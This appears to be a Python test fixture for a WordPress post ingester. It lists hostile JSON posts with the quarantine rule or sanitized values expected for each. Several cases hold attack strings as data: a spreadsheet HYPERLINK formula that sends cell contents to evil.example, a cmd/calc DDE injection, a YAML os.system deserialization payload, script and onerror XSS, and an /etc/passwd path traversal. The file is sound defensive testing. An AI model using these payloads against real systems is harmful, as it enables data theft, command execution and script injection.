"""Hostile posts: each case of content as JSON of one post, and what has to come of it."""

from __future__ import annotations

import json
from typing import Any, NamedTuple

from tests import factories

SITE = "https://www.example.org"
HYPERLINK = '=HYPERLINK("https://evil.example/?"&A1,"open")'
YAML_TITLE = '---\nname: x\n---\n: !!python/object/apply:os.system ["true"] #\t- a: b'
RTL = "\u202eevil\u202c \u2066x\u2069 \u200f"
JOINED = "می\u200cروم نا\u200dم \u200f(RLM)"
LONG_SLUG = "%d8%a6" * 50


class Hostile(NamedTuple):
    """One hostile post.

    `item` is its JSON as the site sends it, its number being 9. `rule` is the rule of its quarantine, null where it
    becomes a row; then `shows` are columns of that row with their values, and `flags` those that it has at least.
    """

    case: int
    name: str
    item: bytes
    rule: str | None = None
    flags: tuple[str, ...] = ()
    shows: dict[str, Any] = {}  # noqa: RUF012 - never changed


def post(number: int, html: str | None = "<p>x</p>", **more: Any) -> dict[str, Any]:
    """A post as the REST API gives it, of this content."""
    return factories.post(number, html, home=SITE, **more)


def _json(html: str | None = "<p>x</p>", **more: Any) -> bytes:
    return json.dumps(post(9, html, **more)).encode()


def _raw(field: str, value: bytes) -> bytes:
    """A post with a field whose value stands there byte for byte."""
    return json.dumps(post(9, plugin="HERE")).encode().replace(b'"plugin": "HERE"', f'"{field}": '.encode() + value)


def _deep(depth: int) -> str:
    return "<div>word " * depth + "<a href='/deepest'>deepest</a>" + "</div>" * depth


def _flat(depth: int) -> str:
    return "\n".join(["word"] * (depth - 1) + ["word deepest"])


def corpus() -> list[Hostile]:
    """Every hostile post. Made anew on each call: some are large."""
    return [*_structure(), *_size(), *_letters(), *_addresses(), *_times(), *_conventions()]


def _structure() -> list[Hostile]:
    return [
        Hostile(14, "json 100,000 deep", _raw("plugin", b"[" * 100_000 + b"]" * 100_000), "too_deep"),
        Hostile(14, "objects 100,000 deep", _raw("plugin", b'{"a":' * 100_000 + b"1" + b"}" * 100_000), "too_deep"),
        Hostile(14, "NaN", _raw("plugin", b"NaN"), "not_json"),
        Hostile(14, "minus infinity", _raw("plugin", b"-Infinity"), "not_json"),
        Hostile(14, "a key twice", _raw("slug", b'"second"'), None, (), {"slug": "second"}),
        Hostile(14, "400 digits in a plugin", _raw("plugin", b"9" * 400)),
        Hostile(14, "5,000 digits in a plugin", _raw("plugin", b"9" * 5_000), None, ("extra_unreadable",)),
        Hostile(14, "400 digits in a column", _json(menu_order=10**400), None, ("menu_order_unreadable",), {"menu_order": None}),
        Hostile(14, "id of 400 digits", _json(id=10**400), "id_invalid"),
        Hostile(14, "id a string", _json(id="9"), None, ("id_converted",)),
        Hostile(14, "id a float", _json(id=9.5), "id_invalid"),
        Hostile(14, "id a float that looks whole", _json(id=9.0)),
        Hostile(14, "id negative", _json(id=-9), "id_invalid"),
        Hostile(14, "id true", _json(id=True), "id_invalid"),
        Hostile(14, "id missing", json.dumps({k: v for k, v in post(9).items() if k != "id"}).encode(), "id_invalid"),
        Hostile(14, "id beyond 64 bits", _json(id=2**63), "id_invalid"),
        Hostile(15, "content null", _json(content=None), None, ("content_missing",), {"text": None}),
        Hostile(15, "title null", _json(title=None), None, ("title_missing",), {"title": None}),
        Hostile(15, "rendered null", _json(None), None, ("content_missing",), {"text": None, "content_html": None}),
        Hostile(15, "title a list", _json(title=["x"]), None, ("title_unreadable", "title_missing"), {"title": None}),
        Hostile(15, "tags an object", _json(tags={"1": 15})),
        Hostile(15, "class_list an object", _json(class_list={"1": "post-9"}), None, ("class_list_object",)),
        Hostile(15, "an error in a list", b'{"code":"rest_forbidden","message":"No.","data":{"status":401}}', "error_answer"),
        Hostile(15, "a number in a list", b"9", "not_an_object"),
        Hostile(15, "a zero revision", _json(_links={"predecessor-version": [{"id": 0}]}), None, (), {"newest_revision_id": None}),
        Hostile(15, "a type of signs", _json(type="../\x00\x1b[2J"), None, (), {"type": "../\x00\x1b[2J"}),
    ]  # fmt: skip


def _size() -> list[Hostile]:
    many = " ".join(f"a{number}=1" for number in range(1_000_000))
    return [
        Hostile(17, "300 deep", _json(_deep(300)), None, (), {"text": _flat(300), "link_count": 1}),
        Hostile(17, "3,000 deep", _json(_deep(3_000)), None, (), {"text": _flat(3_000), "link_count": 1}),
        Hostile(17, "300,000 deep", _json("<div>" * 300_000 + "x"), "too_deep"),
        Hostile(17, "a title 300,000 deep", _json(title={"rendered": "<i>" * 300_000}), "too_deep"),
        Hostile(17, "a tag that never ends", _json("<p>a<" + "b" * 1_000_000), None, (), {"text": "a"}),
        Hostile(18, "20 MB", _json("word " * 4_000_000), "too_large"),
        Hostile(18, "12 million characters", _json("a " * 6_000_000), "too_long"),
        Hostile(18, "a million attributes", _json(f"<p {many}>x"), "too_many_attributes"),
        Hostile(18, "a class_list of a million", _json(class_list=["category-x"] * 1_000_000)),
        Hostile(18, "a plugin of a million keys", _json(plugin={str(number): 0 for number in range(500_000)})),
    ]  # fmt: skip


def _letters() -> list[Hostile]:
    return [
        Hostile(19, "a lone surrogate", _json("<p>a\ud800b</p>"), None, ("surrogate_replaced",), {"text": "a\ufffdb"}),
        Hostile(19, "a lone surrogate in a key", _raw("\\udfff", b"1"), None, ("surrogate_replaced",)),
        Hostile(19, "NUL and controls", _json("<p>a\x00b\x07c\x1b[2Jd\x9be</p>"), None, ("control_stripped",), {"text": "abc[2Jde"}),
        Hostile(19, "controls in the title", _json(title={"rendered": "a\x00b\x1b]0;x\x07"}), None, (), {"title": "ab]0;x"}),
        Hostile(20, "bidi overrides", _json(f"<p>{RTL}x</p>", title={"rendered": f"{RTL}x"}), None, (), {"text": f"{RTL}x", "title": f"{RTL}x"}),
        Hostile(20, "joiners and marks", _json(f"<p>{JOINED}</p>"), None, (), {"text": JOINED}),
        Hostile(21, "a formula", _json(title={"rendered": HYPERLINK}), None, (), {"title": HYPERLINK}),
        Hostile(21, "a formula with a tab", _json(title={"rendered": "\t=1+1"}, slug="+cmd|' /C calc'!A0"), None, (), {"title": "=1+1", "slug": "+cmd|' /C calc'!A0"}),
        Hostile(22, "onerror", _json("<p>a<img src=x onerror=alert(1)></p><script>alert(2)</script>"), None, (), {"text": "a"}),
        Hostile(22, "a script in the title", _json(title={"rendered": "&lt;script&gt;alert(1)&lt;/script&gt;"}), None, (), {"title": "<script>alert(1)</script>"}),
        Hostile(22, "javascript and data URLs", _json("<a href='javascript:alert(1)'>a</a><a href='data:text/html,<script>x</script>'>b</a><a href=' java\nscript:x'>c</a>"), None, (), {"link_count": 3}),
        Hostile(23, "YAML", _json(title={"rendered": YAML_TITLE}), None, (), {"title": YAML_TITLE.replace("\n", " ").replace("\t", " ")}),
        Hostile(24, "a slug that climbs", _json(slug="../../../../etc/passwd"), None, (), {"slug": "../../../../etc/passwd"}),
        Hostile(24, "a slug of a device", _json(slug="CON", type="aux"), None, (), {"slug": "CON", "type": "aux"}),
        Hostile(24, "a slug of 300 bytes", _json(slug=LONG_SLUG, type="x" * 300), None, (), {"slug": LONG_SLUG}),
        Hostile(24, "a slug of signs", _json(slug='a/b\\c:*?"<>|\n\x00'), None, (), {"slug": 'a/b\\c:*?"<>|\n\x00'}),
    ]  # fmt: skip


def _addresses() -> list[Hostile]:
    hrefs = (
        "http://[",
        "https://user:secretpassword@a.example/",
        "http://münchen.example/",
        "/ئۇيغۇر",
        "a\nb",
        "http://a.example:99999/",
        "http://\x00/",
    )
    anchors = "".join(f"<a href='{href}'>x</a>" for href in hrefs)
    return [
        Hostile(25, "addresses that are none", _json(f"<p>{anchors}</p>"), None, (), {"link_count": len(hrefs)}),
        Hostile(25, "a data URL of 1 MB", _json(f"<img src='data:image/png;base64,{'A' * 1_000_000}'>"), None, (), {"link_count": 1}),
        Hostile(25, "a permalink that is none", _json(link="http://["), None, (), {"id": 9}),
        Hostile(25, "a permalink with a password", _json(link="https://user:secretpassword@www.example.org/?p=9"), None, (), {"url": "https://www.example.org/?p=9"}),
        Hostile(25, "a permalink of signs", _json(link="https://www.example.org/\x00\n\x1b?p=9")),
        Hostile(25, "a term's address that is none", _json(_links={"wp:term": [{"taxonomy": "x", "href": "http://["}]})),
    ]  # fmt: skip


def _times() -> list[Hostile]:
    zero = "0000-00-00T00:00:00"
    return [
        Hostile(26, "zero dates", _json(date_gmt=zero, date="-0001-11-30T00:00:00", modified_gmt=zero), None, ("date_unreadable",), {"published_at": None, "modified_at": None}),
        Hostile(26, "the year 9999", _json(date_gmt="9999-12-31T23:59:59", date="9999-12-31T23:59:59", modified_gmt="9999-12-31T23:59:59"), None, (), {"published_local.year": 9999}),
        Hostile(26, "modified before published", _json(modified_gmt="1999-01-01T00:00:00"), None, ("modified_before_published",)),
        Hostile(26, "no date at all", _json(date_gmt="yesterday", modified_gmt="2026-02-31T00:00:00"), None, ("date_unreadable",), {"published_at": None, "modified_at": None}),
        Hostile(26, "a local time of another century", _json(date="1899-01-01T00:00:00"), None, ("offset_implausible",), {"utc_offset_minutes": None}),
        Hostile(26, "a clock that is seven minutes slow", _json(date="2026-01-01T11:53:00", date_gmt="2026-01-01T12:00:00"), None, ("offset_implausible",), {"utc_offset_minutes": None}),
        Hostile(26, "a local time by the sun", _json(date="1932-01-01T12:20:00", date_gmt="1932-01-01T12:00:00"), None, (), {"utc_offset_minutes": 20}),
        Hostile(26, "a date of another type", _json(date_gmt=20260101), None, ("date_unreadable",), {"published_at": None}),
    ]  # fmt: skip


def _conventions() -> list[Hostile]:
    return [
        Hostile(27, "references twice", _json("<p>&amp;amp; &#xD800; &#0; &nothing; &;</p>"), None, (), {"text": "&amp; \ufffd \ufffd ¬hing; &;"}),
        Hostile(27, "a shortcode", _json("<p>[gallery ids='1,2']</p>"), None, ("shortcode",), {"text": "[gallery ids='1,2']"}),
        Hostile(27, "empty content", _json(""), None, (), {"text": "", "word_count": 0, "link_count": 0}),
    ]  # fmt: skip
